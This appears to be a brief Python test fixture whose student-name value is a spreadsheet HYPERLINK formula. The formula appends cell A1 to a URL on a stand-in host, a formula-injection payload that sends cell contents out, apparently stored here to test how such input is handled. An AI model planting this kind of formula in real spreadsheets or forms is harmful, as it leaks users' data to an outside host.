"""Goes by a name that a spreadsheet would run."""
# expected: graded, 8

STUDENT = '=HYPERLINK("http:example.org?x="&A1,"ok")'


def spoil(notebook, cells):
    pass
